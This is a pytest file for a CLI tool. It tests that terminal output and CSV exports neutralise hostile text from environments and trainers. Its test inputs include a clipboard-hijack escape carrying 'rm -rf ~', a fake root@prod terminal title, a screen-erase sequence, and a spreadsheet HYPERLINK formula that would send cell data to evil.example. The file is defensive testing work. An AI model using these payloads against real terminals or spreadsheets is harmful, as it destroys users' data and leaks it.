"""A terminal and a spreadsheet obey nothing that environments, trainers and others wrote."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from hillclimb.blobs.disk import DiskStore
from hillclimb.cli.commands import main
from hillclimb.cli.terminal.console import (
    out,
    print_error,
    print_log,
    print_page,
    print_table,
    print_text,
    table,
)
from hillclimb.cli.terminal.foreign_text import cell_markup, visible_lines
from hillclimb.protocol.rundir import log_segment, run_key
from tests.api.fixtures.serving import Served
from tests.api.fixtures.story import Story, spec
from tests.api.fixtures.story_fixtures import blobs, served, story, story_url

__all__ = ["blobs", "served", "story", "story_url"]
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x1b\\"
"""Puts `rm -rf ~` into the clipboard of whoever reads it in a terminal."""
TITLE = "\x1b]0;root@prod\x07"
ERASED = "\x1b[2J\x1b[H"
C1 = "\x9b31m"
ATTACKS = (CLIPBOARD, TITLE, ERASED, C1, "a\rb", "a\x08b", "\x1b(0", "\x7f", "[/red]", "[link=x]y")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_control_character_of_others_reaches_the_terminal(
    capsys: pytest.CaptureFixture[str], attack: str
) -> None:
    print_text(attack)
    print_text(attack, style="red")
    print_table(table(["NAME", "TEXT~"], [[attack, attack]]))
    print_error(ValueError(attack), as_json=False)
    print_page(f"# {attack}\nsecond line")
    print_log(f"{attack}\n")
    printed = "".join(capsys.readouterr())
    ours = printed.replace("\n", "").replace("\t", "")
    assert ours.isprintable(), repr(printed)


def test_a_log_keeps_its_colours_and_its_lines() -> None:
    line = "\x1b[36m(worker)\x1b[0m step 1\r\nstep 2\rstep 3\n"
    assert visible_lines(line) == "\x1b[36m(worker)\x1b[0m step 1\nstep 2\nstep 3\n"
    assert visible_lines(f"\x1b[31m{TITLE}") == "\x1b[31m␛]0;root@prod␇"


@pytest.mark.parametrize(
    ("cell", "plain"),
    [
        ("[green]succeeded[/green] 3/40", "succeeded 3/40"),
        ("[bold]all[/bold]", "all"),
        ("[red]a[/red] [/red]", "a [/red]"),
        ("[/red]", "[/red]"),
        ("[link=https://evil.example]x[/link]", "[link=https://evil.example]x[/link]"),
        ("[blink]x[/blink]", "[blink]x[/blink]"),
        ("[1, 2]", "[1, 2]"),
        ("\\\\[/x]", "\\\\[/x]"),
    ],
)
def test_only_our_own_colours_are_markup_in_a_table(cell: str, plain: str) -> None:
    assert out.render_str(cell_markup(cell)).plain == plain


def invoke(served: Served, monkeypatch: pytest.MonkeyPatch, *words: str) -> str:
    monkeypatch.setenv("HILLCLIMB_API_URL", served.url)
    monkeypatch.setenv("HILLCLIMB_API_KEY", served.key)
    result = CliRunner(mix_stderr=False).invoke(main, [*words], color=True)
    assert result.exit_code == 0, (words, result.stderr, result.exception)
    return result.stdout


def test_the_commands_that_read_runs_obey_no_trainer(
    story: Story, served: Served, blobs: DiskStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = story.running(spec(env_keys=("booking",)))
    step = story.step(run_id, 1, {"booking": 0.5})
    first = step.outcomes[0].model_copy(update={"rollout_id": f"[/red]{CLIPBOARD}"})
    metrics = {f"reward/[/x]{CLIPBOARD}": 1.0, "=HYPERLINK(1)": 2.0}
    story.push(
        run_id,
        step.model_copy(update={"outcomes": (first, *step.outcomes[1:]), "metrics": metrics}),
    )
    blobs.put(run_key(run_id, log_segment(1, 1)), f"hello {CLIPBOARD}{TITLE}\n".encode())
    for words in (
        ("logs", run_id),
        ("metrics", run_id),
        ("trajectories", run_id),
        ("trajectories", run_id, "--step", "1", "--limit", "200"),
    ):
        printed = invoke(served, monkeypatch, *words)
        assert CLIPBOARD not in printed, words
        assert TITLE not in printed, words
        plain = click.unstyle(printed).replace("\n", "").replace("\t", "")
        assert plain.isprintable(), words
    assert "cm0gLXJmIH4=" in invoke(served, monkeypatch, "logs", run_id), "as text"


def test_no_cell_of_an_exported_table_is_a_formula(
    story: Story, served: Served, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    run_id = story.running(spec(env_keys=("booking",)))
    step = story.step(run_id, 1, {"booking": 0.5})
    names = ['=HYPERLINK("https://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "reward"]
    story.push(run_id, step.model_copy(update={"metrics": dict.fromkeys(names, -1.0)}))
    target = tmp_path / "metrics.csv"
    invoke(served, monkeypatch, "metrics", run_id, "--csv", str(target))
    rows = list(csv.reader(io.StringIO(target.read_text())))[1:]
    assert {row[0].lstrip("'") for row in rows} == set(names)
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@", "\t")), row
    assert {row[-1] for row in rows} == {"-1.0"}, "numbers stay numbers"
